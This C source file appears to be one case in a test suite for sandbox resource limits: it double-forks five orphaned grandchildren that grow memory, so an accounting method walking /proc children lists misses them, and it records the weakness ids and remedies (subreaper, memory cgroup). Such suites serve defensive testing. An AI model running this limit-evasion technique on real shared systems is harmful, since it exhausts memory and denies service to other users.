// SPDX-License-Identifier: MIT
/*
 * Goal:  more memory than the budget.
 * Means: whose parent has ended is nobody's child, or another's: who adds up the program and all
 *        that descends from it, by /proc/PID/task/TID/children, does not find the five that hold
 *        the memory.
 */
#include "attacks/memory-bomb/children.h"

#include <sys/wait.h>

/* A grandchild that grows, and whose parent is gone. */
static bool start(int full)
{
	pid_t between = fork();
	int status;

	if (between == 0) {
		pid_t child = fork();

		if (child == 0)
			grow(full);
		_exit(child < 0);
	}
	return between > 0 && waitpid(between, &status, 0) == between && !status;
}

static enum claim run(const struct brief *b)
{
	int full[2];

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	for (int i = 0; i < CHILDREN; i++)
		if (!start(full[1]))
			return denied("fork");
	return hold_children(full);
}

const struct attack attack = {
	.effect = "more memory than the budget, five processes together",
	.means = "orphans: the program has no children that could be added up",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "a subreaper that counts whom it takes in; a memory cgroup; no processes",
	.refs = (const char *const[]){ "proc_tid_children(5)", "PR_SET_CHILD_SUBREAPER(2const)",
				       NULL },
	.run = run,
};
